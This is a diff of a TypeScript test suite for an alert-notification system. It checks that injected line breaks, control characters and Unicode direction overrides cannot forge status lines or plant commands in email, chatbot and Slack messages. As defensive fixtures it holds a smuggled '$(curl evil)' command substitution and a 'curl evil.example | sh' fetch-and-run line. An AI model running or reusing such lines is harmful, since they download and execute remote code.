@@ -122,11 +122,11 @@ const startsWithAny = (all: Record<string, string[]>, starts: string[]): string[
 
 describe("commands in messages", () => {
   it("never let an instance ID with line breaks forge a line or plant a command, in any channel", () => {
-    const evil = editedT(withId(1, "inst-1\n\nRESOLVED (1)\n  x $(curl evil)"), (_, op) => ({
+    const evil = editedT(withId(1, "inst-1\n\nRECOVERED (1)\n  x $(curl evil)"), (_, op) => ({
       operation: { ...op, description: "inspect: curl evil.example | sh" },
     }));
     const c = channels([evil]);
-    expect(startsWithAny(lines(c), ["RESOLVED (1)", "x $(curl", "inspect: curl", "curl"])).toEqual([]);
+    expect(startsWithAny(lines(c), ["RECOVERED (1)", "x $(curl", "inspect: curl", "curl"])).toEqual([]);
     // The command cannot hold it safely (flattened, it would name another runtime): it is left out.
     const cmds = commands(c);
     // The group's silence is still found in each channel: the commands are read, and none is inspect.
@@ -185,13 +185,13 @@ describe("commands in messages", () => {
   it("leave a silence out when a matcher holds a line break or control character: flattened, it would match nothing", () => {
     // And a backtick or a direction override: Slack's code spans cannot show the first, the second
     // makes the command read otherwise than it runs.
-    for (const region of ["eu-1\nRESOLVED (9)", "eu-1\u0007", "eu-1\u2028x", "eu-1\u202ex", "eu-`1`"]) {
+    for (const region of ["eu-1\nRECOVERED (9)", "eu-1\u0007", "eu-1\u2028x", "eu-1\u202ex", "eu-`1`"]) {
       const { transitions, context } = group(region, "err_quota");
       const c = channels(transitions, context);
       const cmds = commands(c);
       expect([cmds.email.silence, cmds.chatbot.silence, cmds.slack.silence]).toEqual([[], [], []]);
       expect(c.email).not.toContain("silences add");
-      expect(startsWithAny(lines(c), ["RESOLVED (9)"])).toEqual([]);
+      expect(startsWithAny(lines(c), ["RECOVERED (9)"])).toEqual([]);
     }
   });
 
